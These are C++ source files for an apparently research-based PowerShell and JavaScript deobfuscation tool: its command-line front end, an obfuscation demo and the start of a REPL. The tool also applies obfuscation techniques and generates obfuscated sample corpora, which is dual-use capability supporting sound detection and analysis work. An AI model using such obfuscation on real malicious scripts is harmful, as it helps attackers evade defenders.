    std::ofstream(base + ".obf.ps1") << s.obfuscated;
    std::ofstream(base + ".clean.ps1") << s.original;
    std::ofstream meta(base + ".meta");
    meta << "family: " << s.family << "\nlayers: " << s.layers
         << "\ntechniques:";
    for (ideobf::Technique t : s.techniques) meta << " " << to_string(t);
    meta << "\n";
  }
  std::cout << "wrote " << n << " samples to " << dir << "\n";
  return 0;
}

int cmd_techniques() {
  for (ideobf::Technique t : ideobf::all_techniques()) {
    std::cout << "L" << ideobf::technique_level(t) << "\t" << to_string(t)
              << "\n";
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  const std::string cmd = argv[1];
  auto arg = [&](int i, const char* fallback = "-") {
    return argc > i ? std::string(argv[i]) : std::string(fallback);
  };

  if (cmd == "deobf") {
    bool trace_fn = false;
    double deadline_seconds = 0.0;
    std::string path = "-";
    for (int i = 2; i < argc; ++i) {
      const std::string a = argv[i];
      if (a == "--trace-functions") trace_fn = true;
      else if (a == "--deadline-ms" && i + 1 < argc)
        deadline_seconds = std::atof(argv[++i]) / 1000.0;
      else path = a;
    }
    return cmd_deobf(path, trace_fn, deadline_seconds);
  }
  bool as_json = false;
  std::string pos_arg = "-";
  for (int i = 2; i < argc; ++i) {
    if (std::string(argv[i]) == "--json") as_json = true;
    else pos_arg = argv[i];
  }
  if (cmd == "score") return cmd_score(pos_arg, as_json);
  if (cmd == "iocs") return cmd_iocs(pos_arg, as_json);
  if (cmd == "behavior") return cmd_behavior(arg(2));
  if (cmd == "obfuscate") {
    if (argc < 3) return usage();
    return cmd_obfuscate(argv[2], arg(3));
  }
  if (cmd == "corpus") {
    if (argc < 4) return usage();
    return cmd_corpus(std::atoi(argv[2]), argv[3]);
  }
  if (cmd == "explain") {
    ideobf::DeobfuscationOptions opts;
    opts.collect_trace = true;
    ideobf::InvokeDeobfuscator deobf(opts);
    ideobf::DeobfuscationReport report;
    const std::string out = deobf.deobfuscate(read_input(arg(2)), report);
    std::cout << ideobf::render_trace(report.trace) << "---\n" << out;
    return 0;
  }
  if (cmd == "ast") {
    std::cout << ps::dump_script(read_input(arg(2)));
    return 0;
  }
  if (cmd == "techniques") return cmd_techniques();
  return usage();
}
