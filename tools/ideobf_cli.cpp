// ideobf — command-line front end over the library, mirroring the usage of
// the paper's released PowerShell module.
//
//   ideobf deobf [file|-]            deobfuscate a script (stdin with -)
//   ideobf batch <dir>               deobfuscate every *.ps1 / *.js in a dir
//
// Both accept --language <name|auto>: route to a registered front-end
// ("powershell", "javascript") or sniff per script with "auto"; batch
// otherwise picks the front-end from each file's extension.
//   ideobf serve --socket PATH       persistent deobfuscation daemon (NDJSON)
//   ideobf score [file|-]            obfuscation score + detected techniques
//   ideobf iocs [file|-]             deobfuscate then extract key information
//   ideobf behavior [file|-]         run in the sandbox, print side effects
//   ideobf obfuscate <technique> [file|-]   apply one Table II technique
//   ideobf corpus <n> <dir>          write n generated samples to a directory
//   ideobf explain [file|-]          deobfuscate and print the change trace
//   ideobf ast [file|-]              dump the PowerShell AST
//   ideobf techniques                list technique names and levels
//
// Observability flags (deobf and batch):
//   --stats            pipeline statistics (cache/memo hit rates, phase times)
//   --metrics[=FILE]   Prometheus-style metrics to FILE (stderr without =FILE)
//   --trace-out=FILE   Chrome trace_event JSON (chrome://tracing, Perfetto)
//
// Serve observability flags:
//   --trace-out FILE       arm the trace recorder (serves the `trace` op,
//                          writes the Chrome trace to FILE at shutdown)
//   --trace                fleet mode: per-worker traces in state_dir
//   --metrics-snapshot F   dump a mergeable metrics snapshot to F (scrape/HUP)
//   --flight-recorder F    mirror the in-memory flight ring to F (postmortems)
//   --log-level LEVEL      structured NDJSON logs (debug|info|warn|error|off)

#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <memory>
#include <sstream>
#include <string>

#include "analysis/json_writer.h"
#include "analysis/keyinfo.h"
#include "analysis/scorer.h"
#include "corpus/corpus.h"
#include "core/fault.h"
#include "ideobf/api.h"
#include "ideobf/client.h"
#include "server/server.h"
#include "server/supervisor.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "psast/dump.h"
#include "sandbox/sandbox.h"
#include "telemetry/build_info.h"
#include "telemetry/chrome_trace.h"
#include "telemetry/exposition.h"
#include "telemetry/log.h"
#include "telemetry/telemetry.h"

namespace {

std::string read_input(const std::string& path) {
  if (path == "-") {
    std::ostringstream ss;
    ss << std::cin.rdbuf();
    return ss.str();
  }
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    std::cerr << "ideobf: cannot open " << path << "\n";
    std::exit(2);
  }
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

int usage() {
  std::cerr
      << "usage: ideobf <deobf|batch|serve|explain|score|iocs|behavior|obfuscate|corpus|ast|techniques>"
         " [args]\n";
  return 2;
}

/// The CLI's telemetry envelope: `--metrics[=FILE]` and `--trace-out=FILE`
/// turn the subsystem on for the command's duration; `finish()` writes the
/// Chrome trace and the Prometheus exposition. `--stats` alone also enables
/// telemetry so the phase breakdown and hit rates have data to report.
struct TelemetrySession {
  bool want_metrics = false;
  std::string metrics_path;  ///< empty writes the exposition to stderr
  std::string trace_path;    ///< empty disables trace collection
  bool stats = false;
  std::unique_ptr<ideobf::telemetry::TraceRecorder> recorder;

  /// True when `flag` was one of ours (and was consumed).
  bool consume(const std::string& flag) {
    if (flag == "--stats") {
      stats = true;
      return true;
    }
    if (flag == "--metrics") {
      want_metrics = true;
      return true;
    }
    if (flag.rfind("--metrics=", 0) == 0) {
      want_metrics = true;
      metrics_path = flag.substr(10);
      return true;
    }
    if (flag.rfind("--trace-out=", 0) == 0) {
      trace_path = flag.substr(12);
      return true;
    }
    return false;
  }

  [[nodiscard]] bool active() const {
    return want_metrics || stats || !trace_path.empty();
  }

  void start() {
    if (!active()) return;
    ideobf::telemetry::Telemetry::metrics().reset();
    if (!trace_path.empty()) {
      recorder = std::make_unique<ideobf::telemetry::TraceRecorder>();
      ideobf::telemetry::Telemetry::set_trace_recorder(recorder.get());
    }
    ideobf::telemetry::Telemetry::enable();
  }

  void finish() {
    if (!active()) return;
    ideobf::telemetry::Telemetry::disable();
    ideobf::telemetry::Telemetry::set_trace_recorder(nullptr);
    if (recorder != nullptr) {
      std::ofstream out(trace_path, std::ios::binary);
      if (!out) {
        std::cerr << "ideobf: cannot write " << trace_path << "\n";
      } else {
        out << recorder->render();
        std::cerr << "# trace: " << recorder->event_count() << " events -> "
                  << trace_path
                  << (recorder->truncated() ? " (truncated)" : "") << "\n";
      }
    }
    if (want_metrics) {
      // Identify the build in every exposition, CLI included, so one-shot
      // scrapes join against fleet series the same way serve-mode ones do.
      ideobf::telemetry::register_build_info();
      ideobf::telemetry::update_uptime_gauge();
      const std::string text = ideobf::telemetry::render_prometheus(
          ideobf::telemetry::Telemetry::metrics());
      if (metrics_path.empty()) {
        std::cerr << text;
      } else {
        std::ofstream out(metrics_path, std::ios::binary);
        if (!out) std::cerr << "ideobf: cannot write " << metrics_path << "\n";
        else out << text;
      }
    }
  }
};

/// `--stats` phase-time table for one profile (self = phase minus nested).
void print_profile(std::ostream& os,
                   const ideobf::telemetry::PipelineProfile& profile) {
  os << "# phase breakdown (count, self ms, total ms):\n";
  for (std::size_t i = 0; i < ideobf::telemetry::kPhaseCount; ++i) {
    const auto phase = static_cast<ideobf::telemetry::Phase>(i);
    const auto& stat = profile.stat(phase);
    if (stat.count == 0) continue;
    os << "#   " << ideobf::telemetry::phase_name(phase) << ": " << stat.count
       << ", " << static_cast<double>(stat.self_ns) / 1e6 << ", "
       << static_cast<double>(stat.total_ns) / 1e6 << "\n";
  }
}

/// Cache effectiveness summary from the registry counters (reset by
/// tel.start(), so they cover exactly this command's work). The per-report
/// memo numbers are preferred when the caller has them.
void print_cache_stats(std::ostream& os, int memo_hits, int memo_misses) {
  auto& reg = ideobf::telemetry::registry();
  const std::uint64_t hits =
      reg.counter("ideobf_parse_cache_hit_total").value();
  const std::uint64_t misses =
      reg.counter("ideobf_parse_cache_miss_total").value();
  const std::uint64_t bypasses =
      reg.counter("ideobf_parse_cache_bypass_total").value();
  const std::uint64_t evictions =
      reg.counter("ideobf_parse_cache_eviction_total").value();
  const std::uint64_t lookups = hits + misses + bypasses;
  os << "# parse-cache: hits=" << hits << " misses=" << misses
     << " bypasses=" << bypasses << " evictions=" << evictions << " hit-rate="
     << (lookups == 0 ? 0.0 : static_cast<double>(hits) / lookups) << "\n";
  const int memo_lookups = memo_hits + memo_misses;
  os << "# recovery-memo: hits=" << memo_hits << " misses=" << memo_misses
     << " hit-rate="
     << (memo_lookups == 0 ? 0.0
                           : static_cast<double>(memo_hits) / memo_lookups)
     << "\n";
}

int cmd_deobf(const std::string& path, bool trace_functions,
              double deadline_seconds, const std::string& language,
              TelemetrySession& tel) {
  ideobf::Options opts;
  opts.recovery.trace_functions = trace_functions;
  opts.limits.deadline_seconds = deadline_seconds;
  ideobf::Engine engine(opts);
  ideobf::Request request;
  request.source = read_input(path);
  request.language = language;
  tel.start();
  const ideobf::Response response = engine.handle(request);
  const ideobf::DeobfuscationReport& report = response.report;
  std::cout << response.result;
  std::cerr << "# ticks=" << report.token.ticks_removed
            << " aliases=" << report.token.aliases_expanded
            << " case=" << report.token.case_normalized
            << " pieces=" << report.recovery.pieces_recovered
            << " vars=" << report.recovery.variables_traced
            << " layers=" << report.multilayer.layers_unwrapped
            << " failure=" << to_string(response.failure)
            << " rung=" << report.degradation_rung
            << " language=" << response.language << "\n";
  if (tel.stats) {
    print_cache_stats(std::cerr, report.recovery.memo_hits,
                      report.recovery.memo_misses);
    print_profile(std::cerr, report.profile);
  }
  tel.finish();
  return 0;
}

int cmd_batch(const std::string& dir, unsigned threads,
              double deadline_seconds, bool as_json,
              const std::string& language, TelemetrySession& tel) {
  namespace fs = std::filesystem;
  std::error_code ec;
  std::vector<std::string> paths;
  for (const auto& entry : fs::directory_iterator(dir, ec)) {
    if (entry.is_regular_file() && (entry.path().extension() == ".ps1" ||
                                    entry.path().extension() == ".js")) {
      paths.push_back(entry.path().string());
    }
  }
  if (ec) {
    std::cerr << "ideobf: cannot read directory " << dir << "\n";
    return 2;
  }
  std::sort(paths.begin(), paths.end());
  if (paths.empty()) {
    std::cerr << "ideobf: no .ps1 or .js files in " << dir << "\n";
    return 2;
  }
  std::vector<ideobf::Request> requests(paths.size());
  for (std::size_t i = 0; i < paths.size(); ++i) {
    requests[i].source = read_input(paths[i]);
    requests[i].id = paths[i];
    // Explicit --language wins; otherwise the extension picks the front-end
    // (".js" routes to the JavaScript front-end, ".ps1" keeps the default).
    if (!language.empty()) {
      requests[i].language = language;
    } else if (fs::path(paths[i]).extension() == ".js") {
      requests[i].language = "javascript";
    }
  }

  ideobf::Options options;
  options.threads = threads;
  options.limits.deadline_seconds = deadline_seconds;
  ideobf::Engine engine(options);
  tel.start();
  const auto start = std::chrono::steady_clock::now();
  const std::vector<ideobf::Response> responses = engine.handle_batch(requests);
  const double wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  int changed = 0;
  int failed = 0;
  int degraded = 0;
  for (std::size_t i = 0; i < responses.size(); ++i) {
    const std::string out_path = paths[i] + ".deobf";
    std::ofstream(out_path, std::ios::binary) << responses[i].result;
    if (responses[i].result != requests[i].source) ++changed;
    if (!responses[i].ok) ++failed;
    if (responses[i].ok && responses[i].report.degradation_rung > 0) {
      ++degraded;
    }
  }

  if (as_json) {
    ideobf::JsonWriter w;
    w.begin_object();
    w.field("scripts", static_cast<std::int64_t>(requests.size()));
    w.field("changed", changed);
    w.field("failed", failed);
    w.field("degraded", degraded);
    w.field("wall_seconds", wall_seconds);
    w.begin_array("items");
    for (std::size_t i = 0; i < responses.size(); ++i) {
      const ideobf::Response& r = responses[i];
      w.begin_object();
      w.field("file", paths[i]);
      w.field("ok", r.ok);
      w.field("changed", r.result != requests[i].source);
      w.field("seconds", r.seconds);
      w.field("rung", r.report.degradation_rung);
      w.field("failure", std::string(to_string(r.failure)));
      w.end_object();
    }
    w.end_array();
    w.end_object();
    std::cout << w.str() << "\n";
  } else {
    std::cout << "batch: " << requests.size() << " scripts, " << changed
              << " changed, " << failed << " failed, " << degraded
              << " degraded, " << wall_seconds << "s\n";
  }
  if (tel.stats) {
    // Batch memo stats come from the registry (per-item reports are not
    // retained); the counters were reset by tel.start().
    auto& reg = ideobf::telemetry::registry();
    const int memo_hits = static_cast<int>(
        reg.counter("ideobf_recovery_memo_hit_total").value());
    const int memo_misses = static_cast<int>(
        reg.counter("ideobf_recovery_memo_miss_total").value());
    print_cache_stats(std::cerr, memo_hits, memo_misses);
    ideobf::telemetry::PipelineProfile profile;
    for (const ideobf::Response& r : responses) profile.merge(r.report.profile);
    print_profile(std::cerr, profile);
  }
  tel.finish();
  return 0;
}

int cmd_score(const std::string& path, bool as_json) {
  const std::string script = read_input(path);
  const ideobf::ObfuscationFindings findings = ideobf::detect_obfuscation(script);
  if (as_json) {
    ideobf::JsonWriter w;
    w.begin_object();
    w.field("score", findings.score());
    w.begin_array("techniques");
    for (ideobf::Technique t : findings.techniques) {
      w.begin_object();
      w.field("name", std::string(to_string(t)));
      w.field("level", ideobf::technique_level(t));
      w.end_object();
    }
    w.end_array();
    w.end_object();
    std::cout << w.str() << "\n";
    return 0;
  }
  std::cout << "score: " << findings.score() << "\n";
  for (ideobf::Technique t : findings.techniques) {
    std::cout << "  L" << ideobf::technique_level(t) << " " << to_string(t)
              << "\n";
  }
  return 0;
}

int cmd_iocs(const std::string& path, bool as_json) {
  ideobf::Engine engine;
  ideobf::Request request;
  request.source = read_input(path);
  const ideobf::KeyInfo info =
      ideobf::extract_key_info(engine.handle(request).result);
  if (as_json) {
    ideobf::JsonWriter w;
    w.begin_object();
    w.begin_array("urls");
    for (const auto& u : info.urls) w.value(u);
    w.end_array();
    w.begin_array("ips");
    for (const auto& i : info.ips) w.value(i);
    w.end_array();
    w.begin_array("ps1_files");
    for (const auto& p : info.ps1_files) w.value(p);
    w.end_array();
    w.field("powershell_invocations", info.powershell_commands);
    w.end_object();
    std::cout << w.str() << "\n";
    return 0;
  }
  for (const auto& u : info.urls) std::cout << "url\t" << u << "\n";
  for (const auto& i : info.ips) std::cout << "ip\t" << i << "\n";
  for (const auto& p : info.ps1_files) std::cout << "ps1\t" << p << "\n";
  std::cout << "powershell-invocations\t" << info.powershell_commands << "\n";
  return 0;
}

int cmd_behavior(const std::string& path) {
  ideobf::Sandbox sandbox;
  const ideobf::BehaviorProfile profile = sandbox.run(read_input(path));
  std::cout << "executed: " << (profile.executed_ok ? "ok" : "error")
            << (profile.error.empty() ? "" : " (" + profile.error + ")") << "\n";
  for (const auto& n : profile.network) std::cout << "net\t" << n << "\n";
  for (const auto& p : profile.processes) std::cout << "proc\t" << p << "\n";
  for (const auto& f : profile.files) std::cout << "file\t" << f << "\n";
  for (const auto& h : profile.host_output) std::cout << "host\t" << h << "\n";
  std::cout << "simulated-seconds\t" << profile.simulated_seconds << "\n";
  return 0;
}

int cmd_obfuscate(const std::string& name, const std::string& path) {
  for (ideobf::Technique t : ideobf::all_techniques()) {
    if (ps::iequals(to_string(t), name)) {
      ideobf::Obfuscator obf(std::random_device{}());
      std::cout << obf.apply(t, read_input(path));
      return 0;
    }
  }
  std::cerr << "ideobf: unknown technique '" << name
            << "' (see `ideobf techniques`)\n";
  return 2;
}

int cmd_corpus(int n, const std::string& dir) {
  ideobf::CorpusGenerator gen(2021);
  for (int i = 0; i < n; ++i) {
    const ideobf::Sample s = gen.generate();
    const std::string base = dir + "/sample_" + std::to_string(i);
    std::ofstream(base + ".obf.ps1") << s.obfuscated;
    std::ofstream(base + ".clean.ps1") << s.original;
    std::ofstream meta(base + ".meta");
    meta << "family: " << s.family << "\nlayers: " << s.layers
         << "\ntechniques:";
    for (ideobf::Technique t : s.techniques) meta << " " << to_string(t);
    meta << "\n";
  }
  std::cout << "wrote " << n << " samples to " << dir << "\n";
  return 0;
}

/// One warm-path round trip against the freshly started server: ping, a
/// deobfuscation whose output is predictable (tick removal + alias/case
/// normalization need no sandbox), and a metrics scrape that must show the
/// request it just served.
int serve_self_check(const std::string& socket_path) {
  ideobf::ServeClient client = ideobf::ServeClient::connect_unix(socket_path);
  if (!client.ping()) {
    std::cerr << "ideobf serve: self-check ping failed\n";
    return 1;
  }
  ideobf::Request request;
  request.source = "wr`ite-ho`st 'self-check'";
  request.id = "self-check";
  const ideobf::ServeReply reply = client.call(request);
  if (reply.status != "ok" || reply.response.id != "self-check" ||
      reply.response.result.find("Write-Host") == std::string::npos) {
    std::cerr << "ideobf serve: self-check deobfuscation failed (status="
              << reply.status << ", result=" << reply.response.result << ")\n";
    return 1;
  }
  const std::string metrics = client.metrics();
  if (metrics.find("ideobf_server_requests_total") == std::string::npos) {
    std::cerr << "ideobf serve: self-check metrics scrape failed\n";
    return 1;
  }
  client.shutdown_server();
  std::cout << "self-check ok\n";
  return 0;
}

/// Supervisor (fleet) mode: bind once, fork+exec workers, restart on crash.
int cmd_serve_fleet(ideobf::server::FleetConfig cfg) {
  ideobf::server::Supervisor sup(std::move(cfg));
  try {
    sup.start();
  } catch (const std::exception& e) {
    std::cerr << "ideobf serve: " << e.what() << "\n";
    return 2;
  }
  sup.install_signal_handlers();
  std::cerr << "ideobf serve: fleet supervisor up (status: "
            << sup.status_path() << ")\n";
  return sup.run();
}

int cmd_serve(int argc, char** argv) {
  ideobf::server::ServerConfig cfg;
  ideobf::server::FleetConfig fleet;
  bool fleet_mode = false;
  bool self_check = false;
  std::string fault_spec;
  std::string log_level;
  for (int i = 2; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--socket" && i + 1 < argc) {
      cfg.unix_socket_path = argv[++i];
    } else if (a == "--tcp") {
      cfg.tcp = true;
      if (i + 1 < argc && argv[i + 1][0] != '-') {
        cfg.tcp_port = static_cast<std::uint16_t>(std::atoi(argv[++i]));
      }
    } else if (a == "--threads" && i + 1 < argc) {
      cfg.threads = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (a == "--max-queue" && i + 1 < argc) {
      cfg.max_queue = static_cast<std::size_t>(std::atoi(argv[++i]));
    } else if (a == "--deadline-ms" && i + 1 < argc) {
      cfg.default_deadline_ms =
          static_cast<std::uint64_t>(std::atoll(argv[++i]));
    } else if (a == "--drain-grace-seconds" && i + 1 < argc) {
      cfg.drain_grace_seconds = std::atof(argv[++i]);
      fleet.drain_grace_seconds = cfg.drain_grace_seconds;
    } else if (a == "--send-timeout-seconds" && i + 1 < argc) {
      cfg.send_timeout_seconds = std::atof(argv[++i]);
    } else if (a == "--idle-timeout-seconds" && i + 1 < argc) {
      cfg.idle_timeout_seconds = std::atof(argv[++i]);
    } else if (a == "--outbuf-high-water-bytes" && i + 1 < argc) {
      cfg.outbuf_high_water_bytes =
          static_cast<std::size_t>(std::atoll(argv[++i]));
    } else if (a == "--allow-tcp-shutdown") {
      cfg.allow_tcp_shutdown = true;
    } else if (a == "--self-check") {
      self_check = true;
    } else if (a == "--rate" && i + 1 < argc) {
      cfg.admission_rate = std::atof(argv[++i]);
    } else if (a == "--burst" && i + 1 < argc) {
      cfg.admission_burst = std::atof(argv[++i]);
    } else if (a == "--config" && i + 1 < argc) {
      cfg.reload_config_path = argv[++i];
    } else if (a == "--fault" && i + 1 < argc) {
      fault_spec = argv[++i];
    } else if (a == "--cache-path" && i + 1 < argc) {
      cfg.cache_path = argv[++i];
    } else if (a == "--cache-slots" && i + 1 < argc) {
      cfg.cache_slots = static_cast<std::uint32_t>(std::atoi(argv[++i]));
    } else if (a == "--cache-slot-bytes" && i + 1 < argc) {
      cfg.cache_slot_bytes = static_cast<std::uint32_t>(std::atoi(argv[++i]));
    } else if (a == "--journal" && i + 1 < argc) {
      cfg.crash_journal_path = argv[++i];
    } else if (a == "--quarantine" && i + 1 < argc) {
      cfg.quarantine_path = argv[++i];
    } else if (a == "--worker-index" && i + 1 < argc) {
      cfg.worker_index = std::atoi(argv[++i]);
    } else if (a == "--inherited-unix-fd" && i + 1 < argc) {
      cfg.inherited_unix_fd = std::atoi(argv[++i]);
    } else if (a == "--inherited-tcp-fd" && i + 1 < argc) {
      cfg.inherited_tcp_fd = std::atoi(argv[++i]);
      cfg.tcp = true;
    } else if (a == "--fleet" && i + 1 < argc) {
      fleet_mode = true;
      fleet.workers = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (a == "--state-dir" && i + 1 < argc) {
      fleet.state_dir = argv[++i];
    } else if (a == "--no-cache") {
      fleet.cache = false;
    } else if (a == "--backoff-initial-seconds" && i + 1 < argc) {
      fleet.backoff_initial_seconds = std::atof(argv[++i]);
    } else if (a == "--backoff-max-seconds" && i + 1 < argc) {
      fleet.backoff_max_seconds = std::atof(argv[++i]);
    } else if (a == "--stable-uptime-seconds" && i + 1 < argc) {
      fleet.stable_uptime_seconds = std::atof(argv[++i]);
    } else if (a == "--circuit-max-restarts" && i + 1 < argc) {
      fleet.circuit_max_restarts = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (a == "--circuit-window-seconds" && i + 1 < argc) {
      fleet.circuit_window_seconds = std::atof(argv[++i]);
    } else if (a == "--circuit-reset-seconds" && i + 1 < argc) {
      fleet.circuit_reset_seconds = std::atof(argv[++i]);
    } else if (a == "--quarantine-after" && i + 1 < argc) {
      fleet.quarantine_after = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (a == "--exec-path" && i + 1 < argc) {
      fleet.exec_path = argv[++i];
    } else if (a == "--trace-out" && i + 1 < argc) {
      cfg.trace_out_path = argv[++i];
    } else if (a == "--trace") {
      fleet.trace = true;
    } else if (a == "--metrics-snapshot" && i + 1 < argc) {
      cfg.metrics_snapshot_path = argv[++i];
    } else if (a == "--flight-recorder" && i + 1 < argc) {
      cfg.flight_recorder_path = argv[++i];
    } else if (a == "--log-level" && i + 1 < argc) {
      log_level = argv[++i];
    } else {
      std::cerr << "ideobf serve: unknown flag '" << a << "'\n";
      return 2;
    }
  }
  if (cfg.unix_socket_path.empty()) {
    cfg.unix_socket_path =
        "/tmp/ideobf-serve-" + std::to_string(::getpid()) + ".sock";
  }

  if (fleet_mode) {
    fleet.unix_socket_path = cfg.unix_socket_path;
    fleet.tcp = cfg.tcp;
    fleet.tcp_port = cfg.tcp_port;
    fleet.threads_per_worker = cfg.threads > 0 ? cfg.threads : 2;
    fleet.max_queue = cfg.max_queue;
    fleet.default_deadline_ms = cfg.default_deadline_ms;
    fleet.send_timeout_seconds = cfg.send_timeout_seconds;
    fleet.idle_timeout_seconds = cfg.idle_timeout_seconds;
    fleet.outbuf_high_water_bytes = cfg.outbuf_high_water_bytes;
    fleet.admission_rate = cfg.admission_rate;
    fleet.admission_burst = cfg.admission_burst;
    fleet.reload_config_path = cfg.reload_config_path;
    fleet.cache_slots = cfg.cache_slots;
    fleet.cache_slot_bytes = cfg.cache_slot_bytes;
    fleet.fault_spec = fault_spec;
    fleet.log_level = log_level;
    return cmd_serve_fleet(std::move(fleet));
  }

  // Standalone serve (and supervised workers, which receive --log-level on
  // their command line) apply the structured-log threshold before start()
  // so setup failures are already captured.
  if (!log_level.empty()) {
    ideobf::telemetry::LogLevel level;
    if (!ideobf::telemetry::parse_log_level(log_level, level)) {
      std::cerr << "ideobf serve: unknown --log-level '" << log_level
                << "' (debug|info|warn|error|off)\n";
      return 2;
    }
    ideobf::telemetry::set_log_level(level);
  }

  // Worker (or standalone) process: arm the process-wide fault injector if a
  // crash-drill spec was given. The spec's match text keeps the blast radius
  // to requests that carry the trigger string.
  if (!fault_spec.empty()) {
    ideobf::FaultSite site{};
    ideobf::FaultSpec spec{};
    std::string error;
    if (!ideobf::parse_fault_cli_spec(fault_spec, site, spec, error)) {
      std::cerr << "ideobf serve: bad --fault spec: " << error << "\n";
      return 2;
    }
    ideobf::FaultInjector::process().arm(site, spec);
    cfg.server_fault = &ideobf::FaultInjector::process();
  }

  const std::string socket_path = cfg.unix_socket_path;
  const bool tcp = cfg.tcp;

  // A resident service always records: the metrics op is part of the
  // protocol, so the registry must have data.
  ideobf::telemetry::Telemetry::enable();
  ideobf::server::Server server(std::move(cfg));
  try {
    server.start();
  } catch (const std::exception& e) {
    std::cerr << "ideobf serve: " << e.what() << "\n";
    return 2;
  }
  server.install_signal_handlers();
  if (self_check) {
    int rc = 1;
    try {
      rc = serve_self_check(socket_path);
    } catch (const std::exception& e) {
      std::cerr << "ideobf serve: self-check failed: " << e.what() << "\n";
    }
    server.stop();
    return rc;
  }
  std::cerr << "ideobf serve: listening on " << socket_path;
  if (tcp) std::cerr << " and 127.0.0.1:" << server.tcp_port();
  std::cerr << "\n";
  server.wait();
  return 0;
}

int cmd_techniques() {
  for (ideobf::Technique t : ideobf::all_techniques()) {
    std::cout << "L" << ideobf::technique_level(t) << "\t" << to_string(t)
              << "\n";
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  const std::string cmd = argv[1];
  auto arg = [&](int i, const char* fallback = "-") {
    return argc > i ? std::string(argv[i]) : std::string(fallback);
  };

  if (cmd == "deobf") {
    bool trace_fn = false;
    double deadline_seconds = 0.0;
    std::string path = "-";
    std::string language;
    TelemetrySession tel;
    for (int i = 2; i < argc; ++i) {
      const std::string a = argv[i];
      if (a == "--trace-functions") trace_fn = true;
      else if (a == "--deadline-ms" && i + 1 < argc)
        deadline_seconds = std::atof(argv[++i]) / 1000.0;
      else if (a == "--language" && i + 1 < argc)
        language = argv[++i];
      else if (!tel.consume(a)) path = a;
    }
    return cmd_deobf(path, trace_fn, deadline_seconds, language, tel);
  }
  if (cmd == "batch") {
    unsigned threads = 0;
    double deadline_seconds = 0.0;
    bool as_json = false;
    std::string dir;
    std::string language;
    TelemetrySession tel;
    for (int i = 2; i < argc; ++i) {
      const std::string a = argv[i];
      if (a == "--threads" && i + 1 < argc)
        threads = static_cast<unsigned>(std::atoi(argv[++i]));
      else if (a == "--deadline-ms" && i + 1 < argc)
        deadline_seconds = std::atof(argv[++i]) / 1000.0;
      else if (a == "--language" && i + 1 < argc)
        language = argv[++i];
      else if (a == "--json") as_json = true;
      else if (!tel.consume(a)) dir = a;
    }
    if (dir.empty()) return usage();
    return cmd_batch(dir, threads, deadline_seconds, as_json, language, tel);
  }
  if (cmd == "serve") return cmd_serve(argc, argv);
  bool as_json = false;
  std::string pos_arg = "-";
  for (int i = 2; i < argc; ++i) {
    if (std::string(argv[i]) == "--json") as_json = true;
    else pos_arg = argv[i];
  }
  if (cmd == "score") return cmd_score(pos_arg, as_json);
  if (cmd == "iocs") return cmd_iocs(pos_arg, as_json);
  if (cmd == "behavior") return cmd_behavior(arg(2));
  if (cmd == "obfuscate") {
    if (argc < 3) return usage();
    return cmd_obfuscate(argv[2], arg(3));
  }
  if (cmd == "corpus") {
    if (argc < 4) return usage();
    return cmd_corpus(std::atoi(argv[2]), argv[3]);
  }
  if (cmd == "explain") {
    ideobf::Engine engine;
    ideobf::Request request;
    request.source = read_input(arg(2));
    request.trace = true;
    const ideobf::Response response = engine.handle(request);
    std::cout << ideobf::render_trace(response.report.trace, 60,
                                      response.report.trace_dropped)
              << "---\n"
              << response.result;
    return 0;
  }
  if (cmd == "ast") {
    std::cout << ps::dump_script(read_input(arg(2)));
    return 0;
  }
  if (cmd == "techniques") return cmd_techniques();
  return usage();
}
