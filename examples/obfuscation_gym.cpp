// Obfuscation gym: applies every Table II technique to a script and shows
// the obfuscated form next to what Invoke-Deobfuscation recovers — a quick
// visual check of the round-trip property, and a demo of the obfuscator API.

#include <cstdio>
#include <string>

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"

int main(int argc, char** argv) {
  const std::string script =
      argc > 1 ? argv[1]
               : "Write-Host 'hello from the obfuscation gym'";

  ideobf::Obfuscator obfuscator(2024);
  ideobf::InvokeDeobfuscator deobf;

  for (ideobf::Technique technique : ideobf::all_techniques()) {
    const std::string obfuscated = obfuscator.apply(technique, script);
    const std::string recovered = deobf.deobfuscate(obfuscated);
    std::printf("=== %s (L%d) ===\n",
                std::string(to_string(technique)).c_str(),
                ideobf::technique_level(technique));
    std::printf("obfuscated: %.200s%s\n", obfuscated.c_str(),
                obfuscated.size() > 200 ? "..." : "");
    std::printf("recovered : %.200s%s\n\n", recovered.c_str(),
                recovered.size() > 200 ? "..." : "");
  }
  return 0;
}
