// psrepl — an interactive shell over the mini PowerShell interpreter, handy
// for exploring what the recovery substrate can evaluate.
//
//   $ ./psrepl
//   ps> 'he' + 'llo'
//   hello
//   ps> :ast "{1}{0}" -f 'b','a'
//   ... tree ...
//   ps> :deobf iex ('Write-'+'Host hi')
//   Write-Host hi

#include <iostream>
#include <string>

#include "core/deobfuscator.h"
#include "psast/diagnostics.h"
#include "psast/dump.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace {

class EchoRecorder final : public ps::EffectRecorder {
 public:
  void on_network(std::string_view kind, std::string_view detail) override {
    std::cout << "  [net] " << kind << " " << detail << "\n";
  }
  void on_process(std::string_view cl) override {
    std::cout << "  [proc] " << cl << "\n";
  }
  void on_file(std::string_view op, std::string_view path) override {
    std::cout << "  [file] " << op << " " << path << "\n";
  }
  void on_sleep(double s) override {
    std::cout << "  [sleep] " << s << "s (simulated)\n";
  }
  void on_host_output(std::string_view text) override {
    std::cout << text << "\n";
  }
  std::string download_content(std::string_view) override { return ""; }
};

}  // namespace

int main() {
  EchoRecorder recorder;
  ps::InterpreterOptions opts;
  opts.recorder = &recorder;
  ps::Interpreter interp(opts);
  ideobf::InvokeDeobfuscator deobf;

  std::cout << "mini PowerShell REPL — :ast <expr>, :deobf <script>, :quit\n";
